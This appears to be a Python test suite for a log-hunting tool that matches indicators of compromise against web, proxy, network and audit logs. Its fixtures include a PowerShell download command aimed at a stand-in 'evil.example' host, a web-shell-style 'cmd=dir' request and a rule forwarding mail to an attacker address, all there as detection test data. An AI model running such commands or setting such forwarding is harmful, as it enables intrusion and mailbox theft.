"""Indicator lists: what is read, what is refused, and where a match lies in time."""

from __future__ import annotations

import ipaddress
import json
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.hunt.archives import archive_of

from dwell.hunt import hits as folding
from dwell.hunt.hunting import Hunted, hunt
from dwell.hunt.indicators.indicator import guessed_kind, refanged
from dwell.hunt.indicators.lookup import AddressIndex, KeyIndex
from dwell.hunt.indicators.places import MAPS, PLACES, TEXTS, URLS
from dwell.hunt.indicators.values import EXACT, INSIDE, addresses, addresses_inside, dotted
from dwell.intake.tables import specs
from dwell.model.claims import RuleStatus


def written(folder: Path, text: str, name: str = "list.csv") -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def searched(folder: Path, text: str, tables: dict[str, list[dict[str, Any]]]) -> Hunted:
    return hunt(archive_of(folder / "archive", tables), indicator_files=[written(folder, text)], workers=1)


def found(hunted: Hunted) -> list[dict[str, Any]]:
    return [one for one in hunted.hits.to_pylist() if one["kind"] == "indicator"]


@pytest.mark.parametrize(
    ("text", "plain", "kind"),
    [
        ("hxxps://evil[.]example/x", "https://evil.example/x", "url"),
        ("hxxp[://]evil[.]example/x", "http://evil.example/x", "url"),
        ("hxxp[:]//evil[.]example/x", "http://evil.example/x", "url"),
        ("h**p://evil.example/x", "http://evil.example/x", "url"),
        ("evil[.example", "evil.example", "domain"),
        ("evil.example/gate.php", "evil.example/gate.php", "url"),
        ("bücher.example", "bücher.example", "domain"),
        ("198[.]51[.]100[.]7", "198.51.100.7", "address"),
        ("198.51.100.0/24", "198.51.100.0/24", "network"),
        ("2001:db8::1", "2001:db8::1", "address"),
        ("evil(dot)example", "evil.example", "domain"),
        ("user[at]evil[.]example", "user@evil.example", "email"),
        ('"d41d8cd98f00b204e9800998ecf8427e"', "d41d8cd98f00b204e9800998ecf8427e", "hash"),
        ("supp0rt.aspx", "supp0rt.aspx", "name"),
        ("1.2.3.4.bc.example.com", "1.2.3.4.bc.example.com", "domain"),
        ("1.2.3.4.5", "1.2.3.4.5", ""),
        ("C:\\inetpub\\wwwroot\\x.aspx", "C:\\inetpub\\wwwroot\\x.aspx", "path"),
        ("/aspnet_client/x.aspx", "/aspnet_client/x.aspx", "path"),
        ("python-requests/2.25.1", "python-requests/2.25.1", "agent"),
        ("Mozilla/5.0 (X11; Linux)", "Mozilla/5.0 (X11; Linux)", "agent"),
        ("something else", "something else", ""),
    ],
)
def test_values_are_refanged_and_told_apart(text: str, plain: str, kind: str) -> None:
    assert refanged(text) == plain
    assert guessed_kind(plain) == kind


@given(st.text(max_size=200))
def test_no_text_stops_the_reading(text: str) -> None:
    for line in text.splitlines():
        plain = refanged(line)
        assert isinstance(guessed_kind(plain), str)


MSTIC = "DateAdded,FirstSeen,IndicatorType,Indicator,TLP\n2021-03-08,2021-01-06,ip,100.64.0.1,White\n"


def test_hits_before_inside_and_after_a_window_are_different_statements(tmp_path: Path) -> None:
    text = "indicator,valid_from,valid_until\n100.64.0.1,2021-01-06,2021-06-30\n100.64.0.2,,\n"
    instants = [
        datetime(2019, 4, 2, tzinfo=UTC),
        datetime(2021, 6, 30, 23, tzinfo=UTC),
        datetime(2022, 1, 1, tzinfo=UTC),
    ]
    rows = [{"c-ip": "100.64.0.1", "cs-uri-stem": "/owa/", "time_utc": one} for one in instants]
    rows.append({"c-ip": "100.64.0.2", "cs-uri-stem": "/owa/"})
    hits = found(searched(tmp_path, text, {"iis": rows}))
    assert [(one["first_utc"].year, one["window"]) for one in hits if one["client"] == "100.64.0.1"] == [
        (2019, "before"),
        (2021, "inside"),
        (2022, "after"),
    ]
    assert [one["window"] for one in hits if one["client"] == "100.64.0.2"] == ["no-window"]


def test_a_feed_dated_2021_that_meets_2019_lies_before_its_window(tmp_path: Path) -> None:
    hits = found(searched(tmp_path, MSTIC, {"iis": [{"c-ip": "100.64.0.1", "cs-uri-stem": "/owa/"}]}))
    assert [one["window"] for one in hits] == ["before"]
    assert hits[0]["matched"] == ["c-ip=100.64.0.1"]


def test_each_kind_is_looked_for_where_it_can_be_held(tmp_path: Path) -> None:
    text = (
        "198.51.100.0/24\n198.51.100.7\nevil.example\nsupp0rt.aspx\nC:\\inetpub\\wwwroot\\aspnet_client\\one1.aspx\n"
        "python-requests/2.25.1\nMozilla/5.0 (X11, Linux)\nthief@evil.example\n" + "AB" * 32 + "\n" + "cd" * 16 + "\n"
    )
    tables: dict[str, list[dict[str, Any]]] = {
        "iis": [
            {"c-ip": "10.0.0.5", "X-Forwarded-For": "198.51.100.7:4711,+10.0.0.5"},
            {"c-ip": "::ffff:198.51.100.9"},
            {"cs-uri-stem": "/owa/auth/SUPP0RT.aspx"},
            {"cs-uri-stem": "/aspnet_client/one1.aspx"},
            {"cs-user-agent": "Mozilla/5.0+(X11,+Linux)"},
            {"cs-host": "mail.evil.example:443"},
            {"cs-host": "notevil.example"},
        ],
        "httpproxy": [
            {"ClientIpAddress": "198.51.100.7  10.0.0.5", "UserAgent": "python-requests/2.25.1"},
            {"AnchorMailbox": "SMTP:Thief@evil.example", "UserAgent": "Mozilla/5.0 (X11  Linux)"},
        ],
        "evtx": [
            {"Channel": "x", "Hashes": "SHA1=00,MD5=" + "CD" * 16 + ",SHA256=" + "EF" * 32},
            {"Channel": "x", "QueryName": "evil.example"},
        ],
        "inventory": [{"Path": "/c/x.bin", "SHA256": "ab" * 32}],
        "ual": [{"ClientIP": "[::ffff:198.51.100.7]:51234", "UserId": "thief@evil.example"}],
    }
    hunted = searched(tmp_path, text, tables)
    met = {(one["rule_id"].split(":")[1], one["table"], one["record_no"]) for one in found(hunted)}
    assert met == {
        ("address", "iis", 1),
        ("network", "iis", 1),
        ("network", "iis", 2),
        ("name", "iis", 3),
        ("path", "iis", 4),
        ("agent", "iis", 5),
        ("domain", "iis", 6),
        ("address", "httpproxy", 1),
        ("network", "httpproxy", 1),
        ("agent", "httpproxy", 1),
        ("agent", "httpproxy", 2),
        ("email", "httpproxy", 2),
        ("domain", "httpproxy", 2),
        ("hash", "evtx", 1),
        ("domain", "evtx", 2),
        ("hash", "inventory", 1),
        ("address", "ual", 1),
        ("network", "ual", 1),
        ("email", "ual", 1),
    }
    assert {one.status for one in hunted.indicators} == {RuleStatus.RAN}
    assert sum(one.hits for one in hunted.indicators) == len(met)


def test_a_name_that_begins_as_an_address_is_a_name(tmp_path: Path) -> None:
    rows = [{"cs-host": "1.2.3.4.bc.example.com"}, {"c-ip": "1.2.3.4"}]
    hits = found(searched(tmp_path, "1.2.3.4.bc.example.com\n", {"iis": rows}))
    assert [(one["rule_id"], one["record_no"]) for one in hits] == [("indicator:domain:1.2.3.4.bc.example.com", 1)]


def test_indicators_that_nothing_held_could_show_are_blind(tmp_path: Path) -> None:
    hunted = searched(tmp_path, "ab" * 32 + "\n", {"iis": [{"cs-uri-stem": "/owa/"}]})
    assert [(one.status, one.hits) for one in hunted.indicators] == [(RuleStatus.BLIND, 0)]
    assert "inventory" in hunted.indicators[0].reason


def test_an_indicator_that_meets_too_many_texts_costs_the_others_none_of_theirs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(folding, "GROUPS_MAX", 3)
    rows = [{"c-ip": "10.0.0.1", "cs-host": f"w{at}.evil.example"} for at in range(1, 6)]
    rows += [{"c-ip": f"198.51.100.{at}"} for at in range(1, 6)]
    text = "evil.example\n" + "".join(f"198.51.100.{at}\n" for at in range(1, 6))
    met = {
        (one["rule_id"], tuple(one["matched"]), one["count"]) for one in found(searched(tmp_path, text, {"iis": rows}))
    }
    assert met == {
        ("indicator:domain:evil.example", ("cs-host=w1.evil.example", folding.OTHERS), 5),
        *((f"indicator:address:198.51.100.{at}", (f"c-ip=198.51.100.{at}",), 1) for at in range(1, 6)),
    }


def test_one_row_met_by_two_columns_is_one_hit(tmp_path: Path) -> None:
    rows = [{"c-ip": "100.64.0.1", "X-Forwarded-For": "100.64.0.1"}] * 30
    hits = found(searched(tmp_path, "100.64.0.1\n", {"iis": rows}))
    assert [(one["count"], one["matched"]) for one in hits] == [(30, ["X-Forwarded-For=100.64.0.1", "c-ip=100.64.0.1"])]


def test_every_place_is_a_text_column_of_its_table() -> None:
    held = specs()
    for tables in PLACES.values():
        for table, columns in tables.items():
            for column in columns:
                assert pa.types.is_string(held[table].schema.field(column).type), (table, column)
    for table, columns in [*TEXTS.items(), *URLS.items()]:
        for column in filter(None, columns):
            assert pa.types.is_string(held[table].schema.field(column).type), (table, column)
    for table, columns in MAPS.items():
        for column in columns:
            assert pa.types.is_map(held[table].schema.field(column).type), (table, column)


def test_logs_of_all_sorts_are_looked_at(tmp_path: Path) -> None:
    tables: dict[str, list[dict[str, Any]]] = {
        "signins": [{"ipAddress": "100.64.0.1", "userPrincipalName": "anna@gov.example"}],
        "imap4": [{"cIp": "100.64.0.1:50000", "user": "anna"}],
        "zeek": [{"id.orig_h": "10.0.0.1", "id.resp_h": "100.64.0.1"}],
        "exports": [{"ForwardTo": '"Otto" [SMTP:otto@evil.example]'}],
        "evtx": [{"CmdletParameters": '-ForwardingSmtpAddress "smtp:otto@evil.example"'}],
    }
    hits = found(searched(tmp_path, "100.64.0.1\notto@evil.example\n", tables))
    assert sorted({one["table"] for one in hits}) == ["evtx", "exports", "imap4", "signins", "zeek"]


def test_last_seen_ends_a_window(tmp_path: Path) -> None:
    text = "indicator,first_seen,last_seen\n100.64.0.1,2021-01-01,2021-02-01\n"
    rows = [{"c-ip": "100.64.0.1", "time_utc": datetime(2021, 6, 1, tzinfo=UTC)}]
    assert [one["window"] for one in found(searched(tmp_path, text, {"iis": rows}))] == ["after"]


def test_two_windows_of_one_value_are_one_indicator_whose_records_count_once(tmp_path: Path) -> None:
    text = "indicator,valid_from,valid_until\n100.64.0.1,2021-01-01,2021-01-31\n100.64.0.1,2021-01-15,2021-03-01\n"
    days = [(2020, 12, 1), (2021, 1, 20), (2021, 2, 20), (2022, 1, 1)]
    rows: list[dict[str, Any]] = [{"c-ip": "100.64.0.1", "time_utc": datetime(*one, tzinfo=UTC)} for one in days]
    hunted = searched(tmp_path, text, {"iis": rows})
    assert [(one["window"], one["count"]) for one in found(hunted)] == [
        ("before", 1),
        ("inside", 1),
        ("inside", 1),
        ("after", 1),
    ]
    assert [one.hits for one in hunted.indicators] == [4]
    (met,) = hunted.met
    assert (met.id, met.records) == ("indicator:address:100.64.0.1", 4)
    assert met.windows == (("after", 1), ("before", 1), ("inside", 2))
    assert [(one.place, one.source) for one in met.named_in] == [("2", "list.csv"), ("3", "list.csv")]


def test_a_list_without_a_window_says_nothing_against_one_that_gives_it(tmp_path: Path) -> None:
    text = "indicator,valid_from,valid_until\n100.64.0.1,,\n100.64.0.1,2021-01-15,2021-03-01\n"
    rows: list[dict[str, Any]] = [
        {"c-ip": "100.64.0.1", "time_utc": datetime(2020, 1, 1, tzinfo=UTC)},
        {"c-ip": "100.64.0.1", "time_utc": None},
    ]
    assert [one["window"] for one in found(searched(tmp_path, text, {"iis": rows}))] == ["before", "no-window"]


def test_networks_that_hold_each_other_are_all_met(tmp_path: Path) -> None:
    text = "10.0.0.0/8\n10.1.0.0/16\n10.1.2.0/24\n10.1.2.3\n2001:db8::/32\n2001:db8:1::/48\n198.51.100.0/24\n"
    rows = [{"c-ip": "10.1.2.3"}, {"c-ip": "10.9.9.9"}, {"c-ip": "2001:DB8:1::7"}, {"c-ip": "::ffff:10.1.9.9"}]
    met = {
        (one["rule_id"].partition(":")[2], one["record_no"]) for one in found(searched(tmp_path, text, {"iis": rows}))
    }
    assert met == {
        ("network:10.0.0.0/8", 1),
        ("network:10.1.0.0/16", 1),
        ("network:10.1.2.0/24", 1),
        ("address:10.1.2.3", 1),
        ("network:10.0.0.0/8", 2),
        ("network:2001:db8::/32", 3),
        ("network:2001:db8:1::/48", 3),
        ("network:10.0.0.0/8", 4),
        ("network:10.1.0.0/16", 4),
    }


def test_names_are_compared_as_they_travel(tmp_path: Path) -> None:
    rows = [{"cs-host": "www.xn--bcher-kva.example"}, {"cs-host": "B\u00dcCHER.example"}, {"cs-host": "bucher.example"}]
    hits = found(searched(tmp_path, "b\u00fccher.example\n", {"iis": rows}))
    assert sorted(one["record_no"] for one in hits) == [1, 2]


def test_urls_are_met_where_a_table_holds_them_whole_or_in_pieces(tmp_path: Path) -> None:
    text = "hxxps://Evil[.]example/Gate.php?id=7\nhttp://evil.example:8080/a%20b\nhttps://mail.gov.example/owa/x.aspx\n"
    tables: dict[str, list[dict[str, Any]]] = {
        "zeek": [
            {"http_host": "evil.example", "uri": "/gate.php?id=7"},
            {"http_host": "evil.example", "uri": "/gate.php?id=8"},
            {"http_host": "evil.example", "uri": "/gate.php"},
            {"http_host": "evil.example:8080", "uri": "/a b?x=1"},
            {"http_host": "notevil.example", "uri": "/gate.php?id=7"},
        ],
        "squid": [
            {"url": "http://evil.example/gate.php?id=7"},
            {"url": "evil.example:443"},
            {"url": "evil.example:8443"},
        ],
        "iis": [
            {"cs-host": "mail.gov.example", "cs-uri-stem": "/OWA/x.aspx", "cs-uri-query": "cmd=dir"},
            {"cs-host": "mail.gov.example:443", "cs-uri-stem": "/owa/x.aspx", "cs-uri-query": "-"},
            {
                "cs-host": "mail.gov.example",
                "cs-uri-stem": "/owa/y.aspx",
                "cs-referer": "https://evil.example/gate.php?id=7",
            },
            {"cs-uri-stem": "/owa/x.aspx"},
        ],
        "evtx": [{"Channel": "x", "CommandLine": "powershell iwr 'https://evil.example/gate.php?id=7' -o x"}],
    }
    hunted = searched(tmp_path, text, tables)
    met = {(one["rule_id"].split(":", 2)[1], one["table"], one["record_no"]) for one in found(hunted)}
    assert met == {
        ("url", "zeek", 1),
        ("url", "zeek", 4),
        ("url", "squid", 1),
        ("url-in-part", "squid", 2),
        ("url", "iis", 1),
        ("url", "iis", 2),
        ("url", "iis", 3),
        ("url", "evtx", 1),
    }
    assert "in part" in next(
        one["title"] for one in found(hunted) if one["rule_id"].startswith("indicator:url-in-part:")
    )
    assert sum(one.hits for one in hunted.indicators) == len(met)


def test_where_requests_have_no_host_it_is_said_that_urls_cannot_be_met(tmp_path: Path) -> None:
    rows = [{"cs-uri-stem": "/owa/x.aspx"}]
    hunted = searched(tmp_path, "https://mail.gov.example/owa/x.aspx\n", {"iis": rows})
    assert found(hunted) == []
    assert [one.status for one in hunted.indicators] == [RuleStatus.BLIND]
    assert "requests have no host" in hunted.indicators[0].reason


def test_values_inside_the_parameters_of_audit_records_are_met(tmp_path: Path) -> None:
    text = "otto@evil.example\nevil.example\n198.51.100.7\nhttps://evil.example/app\n"
    rows: list[dict[str, Any]] = [
        {"Parameters": [("Identity", "anna"), ("ForwardTo", "smtp:Otto@Evil.example")]},
        {"extra": [("ModifiedProperties", '[{"Name":"AppAddress","NewValue":"[\\"https://evil.example/app\\"]"}]')]},
        {"Parameters": [("ClientIP", "198.51.100.7")], "extra": [("x", None)]},
        {"Parameters": [("ForwardTo", "otto@notevil.example")]},
    ]
    hits = found(searched(tmp_path, text, {"ual": rows}))
    met = {(one["rule_id"].split(":")[1], one["record_no"], one["matched"][0].split("=")[0]) for one in hits}
    assert met == {
        ("email", 1, "ForwardTo"),
        ("domain", 1, "ForwardTo"),
        ("domain", 2, "ModifiedProperties"),
        ("url", 2, "ModifiedProperties"),
        ("address", 3, "ClientIP"),
    }


def test_what_is_on_a_warning_list_is_marked_and_never_taken_away(tmp_path: Path) -> None:
    folder = tmp_path / "lists"
    folder.mkdir()
    shapes: list[dict[str, Any]] = [
        {"name": "a cloud", "version": 3, "type": "cidr", "list": ["20.0.0.0/8", "bad"]},
        {"name": "big names", "type": "hostname", "list": ["cdn.example.org", ".Big.Tld"]},
        {"name": "mail only", "type": "hostname", "list": ["big.tld"], "matching_attributes": ["email-src"]},
        {"name": "pieces", "type": "substring", "list": ["oogle"]},
        {"name": "expressions", "type": "regex", "list": ["/^g.{5}[.]tld$/i", "("]},
        {"name": "no list", "type": "unheard of", "list": []},
    ]
    for at, one in enumerate(shapes):
        written(folder, json.dumps(one), f"{at}.json")
    text = "20.1.2.3\n20.1.2.0/24\nx.big.tld\ngoogle.tld\n8.8.8.8\n10.0.0.7\n10.0.0.9\nhttp://x.big.tld/a\n55.5.5.5\n"
    rows = [
        {"c-ip": "20.1.2.3", "s-ip": "10.0.0.7", "cs-host": "x.big.tld", "cs-uri-stem": "/a"},
        {"c-ip": "8.8.8.8", "cs-host": "google.tld"},
        {"c-ip": "10.0.0.7"},
        {"c-ip": "10.0.0.9"},
        {"c-ip": "55.5.5.5"},
    ]
    archive = archive_of(tmp_path / "archive", {"iis": rows})
    files = [written(tmp_path, text)]
    hunted = hunt(archive, indicator_files=files, warning_files=[folder], workers=1)
    private = "private networks (RFC 1918, RFC 4193)"
    assert {one.id.partition(":")[2]: one.warning_lists for one in hunted.met} == {
        "address:55.5.5.5": (),
        "address:20.1.2.3": ("a cloud (3)",),
        "network:20.1.2.0/24": ("a cloud (3)",),
        "domain:x.big.tld": ("big names",),
        "url:x.big.tld/a": ("big names",),
        "domain:google.tld": ("expressions", "pieces"),
        "address:8.8.8.8": ("public DNS resolvers",),
        "address:10.0.0.7": (private, "the case's own servers"),
        "address:10.0.0.9": (private,),
    }
    assert hunted.met[0].id == "indicator:address:55.5.5.5"
    assert len(hunted.faults) == 3
    assert len(found(hunt(archive, indicator_files=files, workers=1))) == len(found(hunted))


V4 = st.integers(0, 2**32 - 1).map(lambda one: str(ipaddress.IPv4Address(one)))
NEAR = st.integers(0, 255).map(lambda one: f"10.0.{one % 4}.{one}")


@given(
    st.lists(st.tuples(V4 | NEAR, st.integers(8, 32)), max_size=30),
    st.lists(V4 | NEAR | st.just("-") | st.just("x.y"), max_size=30),
)
def test_looking_up_networks_agrees_with_asking_each(spans: list[tuple[str, int]], asked: list[str]) -> None:
    networks = [ipaddress.ip_network(f"{one}/{length}", strict=False) for one, length in spans]
    texts = pa.array([str(one) if one.prefixlen < 32 else str(one.network_address) for one in networks], pa.string())
    index = AddressIndex(texts, np.arange(len(networks)))
    plain, numbers = dotted(pa.array(asked, pa.string()))
    text, owner = index.find_dotted(numbers, np.flatnonzero(plain))
    held = [(at, ipaddress.ip_address(one)) for at, one in enumerate(asked) if one[0].isdigit()]
    assert list(zip(text.tolist(), owner.tolist(), strict=True)) == [
        (at, whose) for at, one in held for whose, network in enumerate(networks) if one in network
    ]


@given(st.lists(st.text(max_size=4), max_size=30), st.lists(st.text(max_size=4), max_size=30))
def test_looking_up_texts_agrees_with_comparing_each(held: list[str], asked: list[str]) -> None:
    text, owner = KeyIndex(pa.array(held, pa.string()), np.arange(len(held))).find(
        pa.array(asked, pa.string()), np.arange(len(asked))
    )
    assert list(zip(text.tolist(), owner.tolist(), strict=True)) == [
        (at, whose) for at, one in enumerate(asked) for whose, other in enumerate(held) if one == other
    ]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("it came from 198.51.100.7.", ["198.51.100.7"]),
        ("198.51.100.7.\r\nNext", ["198.51.100.7"]),
        ("release 198.51.100.7.5", []),
        ("a" * 90 + " from 2001:db8::7, port 443", ["2001:db8::7"]),
        ("a" * 90 + " Address:2001:db8::7.", ["2001:db8::7"]),
        ("a" * 90 + " [2001:db8:0:0::7]:443", ["2001:db8::7"]),
        ("a" * 90 + " ::ffff:198.51.100.7 ", ["198.51.100.7"]),
        ("a" * 90 + " at 12:30:45, aa:bb:cc:dd:ee:ff", []),
    ],
)
def test_addresses_inside_a_text_are_found_wherever_they_stand(text: str, found: list[str]) -> None:
    assert [str(one) for one in addresses_inside(text)] == found


def test_a_long_front_of_a_chain_does_not_hide_its_end() -> None:
    """Whoever is outside writes the front of a forwarded chain; the balancer puts the client at its end."""
    assert str(addresses(", ".join(["192.0.2.1"] * 1_000 + ["198.51.100.7"]))[-1]) == "198.51.100.7"
    assert EXACT["path"]("c:\\" + "a\\" * 5_000 + "Evil.exe")[-1] == "evil.exe"


def test_a_long_text_takes_time_that_grows_with_its_length() -> None:
    start = time.process_time()
    for text in ("a" * 60_000 + "@", "a:" * 30_000, "1." * 30_000, "@" * 60_000, ":" * 60_000):
        for cut in (*EXACT.values(), *INSIDE.values(), addresses, addresses_inside):
            cut(text)
    assert time.process_time() - start < 5


@given(st.text(max_size=200))
def test_no_text_of_evidence_stops_the_search(text: str) -> None:
    cuts: list[Any] = [*EXACT.values(), *INSIDE.values(), addresses, addresses_inside]
    for cut in cuts:
        assert len(cut(text)) <= 2 * len(text) + 2
